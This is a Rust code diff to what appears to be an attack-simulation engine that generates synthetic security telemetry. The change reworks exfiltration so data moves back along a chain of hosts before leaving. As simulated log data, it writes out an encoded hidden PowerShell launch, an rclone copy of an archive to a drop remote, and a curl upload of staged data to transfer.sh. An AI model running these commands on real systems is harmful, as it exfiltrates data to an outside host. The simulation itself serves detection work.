@@ -2,8 +2,9 @@
 
 use super::{Attack, Doing};
 use crate::defence::Peer;
+use crate::movement::Move;
 use crate::scenario::ActKind;
-use crate::telemetry::{Conn, SYSTEM, Scene, User};
+use crate::telemetry::{Conn, SYSTEM, Scene, Site, User};
 use crate::truth::Outcome;
 use crate::world::{Account, HostNo, Os, outside};
 
@@ -22,6 +23,8 @@ impl Attack<'_, '_> {
         let person = self.world.person(host);
         let toward = doing.step.toward.as_ref().and_then(|it| self.cast.get(it)).copied();
         let neighbours = toward.map(|it| self.neighbours(host, it, doing.step.count)).unwrap_or_default();
+        let chain =
+            if doing.step.act == ActKind::Exfiltrate { self.chain(host, doing.at) } else { Vec::new() };
         let mut scene = self.scene(doing);
         match doing.step.act {
             ActKind::Phishing => scene.phishing(host, os, &person),
@@ -36,7 +39,7 @@ impl Attack<'_, '_> {
             ActKind::Persist => scene.persist(host, os),
             ActKind::DisableDefences => scene.disable(host, os),
             ActKind::Stage => scene.stage(host, os),
-            ActKind::Exfiltrate => scene.exfiltrate(host, os),
+            ActKind::Exfiltrate => scene.exfiltrate(&chain),
             ActKind::ClearLogs => scene.clear_logs(host, os, &person),
             ActKind::Destroy => scene.destroy(host, os),
             // Played by `advance`.
@@ -77,7 +80,7 @@ impl Scene<'_, '_> {
         let payload = self.rng.hex(96);
         let command = format!("powershell.exe -nop -w hidden -enc {payload}");
         self.process(host, &user, POWERSHELL, &command, WORD);
-        self.connection(host, &user, POWERSHELL, outside::COMMAND, 443);
+        self.calls(host, &user, POWERSHELL, outside::COMMAND);
         self.calls_home(host);
         let dropped = format!("C:\\Users\\{}\\AppData\\Roaming\\Microsoft\\upd.dll", person.name);
         self.file_created(host, &user, POWERSHELL, &dropped);
@@ -117,7 +120,7 @@ impl Scene<'_, '_> {
 
     fn beacon(&mut self, host: HostNo, os: Os, person: &Account) {
         if os == Os::Windows {
-            self.connection(host, &person.windows(), RUNDLL32, outside::COMMAND, 443);
+            self.calls(host, &person.windows(), RUNDLL32, outside::COMMAND);
         }
         self.calls_home(host);
     }
@@ -271,43 +274,46 @@ impl Scene<'_, '_> {
         }
     }
 
-    fn exfiltrate(&mut self, host: HostNo, os: Os) {
-        let query = Conn {
-            protocol: "udp",
-            service: Some("dns"),
-            ..Conn::tcp(Peer::Host(host), Peer::Outside(outside::DROP), 53)
-        };
-        if let Some(seen) = self.conn(query) {
-            self.zeek_dns(&seen, "transfer.sh");
+    /// Data leave `chain`'s last host: by its own way out, or back along the chain to the host the attacker came in by.
+    fn exfiltrate(&mut self, chain: &[(HostNo, Option<Move>)]) {
+        let (Some(&(first, _)), Some(&(last, _))) = (chain.first(), chain.last()) else { return };
+        let volume = self.rng.range(600_000_000, 2_400_000_000);
+        if self.has_way_out(last) {
+            return self.upload(last, volume);
         }
-        match os {
+        if self.world.host(last).os == Os::Linux {
+            self.command(last, User::ROOT, &["cat", STAGED]);
+        }
+        for pair in chain.windows(2).rev() {
+            let (from, to) = (pair[0].0, pair[1].0);
+            let port = pair[1].1.map_or(22, |it| it.port);
+            let conn = Conn::tcp(Peer::Host(from), Peer::Host(to), port);
+            self.conn(Conn { sent: 4_000_000, received: volume, seconds: 1200, ..conn });
+        }
+        if self.has_way_out(first) {
+            return self.upload(first, volume);
+        }
+        let conn = Conn::tcp(Peer::Outside(outside::COMMAND), Peer::Host(first), 22);
+        self.conn(Conn { service: Some("ssh"), sent: 4_000_000, received: volume, seconds: 1200, ..conn });
+    }
+
+    fn upload(&mut self, host: HostNo, volume: u64) {
+        let site = Site { name: Some("transfer.sh"), address: outside::DROP };
+        self.look_up(host, "transfer.sh");
+        match self.world.host(host).os {
             Os::Windows => {
                 let tool = "C:\\Users\\Public\\rclone.exe";
-                self.process(
-                    host,
-                    SYSTEM,
-                    tool,
-                    "rclone.exe copy C:\\Users\\Public\\c.rar drop:in --transfers 8",
-                    "cmd.exe",
-                );
+                let command = "rclone.exe copy C:\\Users\\Public\\c.rar drop:in --transfers 8";
+                self.process(host, SYSTEM, tool, command, "cmd.exe");
                 self.dns_query(host, SYSTEM, tool, "transfer.sh", outside::DROP);
+                self.calls(host, SYSTEM, tool, outside::DROP);
             }
             Os::Linux => {
-                self.command(host, User::ROOT, &["curl", "-s", "-T", STAGED, "https://transfer.sh/d"]);
+                self.command(host, User::ROOT, &["curl", "-s", "-T", STAGED, "https://transfer.sh/d"])
             }
             Os::Network => {}
         }
-        let sent = self.rng.range(600_000_000, 2_400_000_000);
-        let upload = Conn {
-            service: Some("ssl"),
-            sent,
-            received: 90_000,
-            seconds: 1200,
-            ..Conn::tcp(Peer::Host(host), Peer::Outside(outside::DROP), 443)
-        };
-        if let Some(seen) = self.conn(upload) {
-            self.zeek_tls(&seen, Some("transfer.sh"));
-        }
+        self.web(host, site, volume, 90_000);
     }
 
     fn clear_logs(&mut self, host: HostNo, os: Os, person: &Account) {
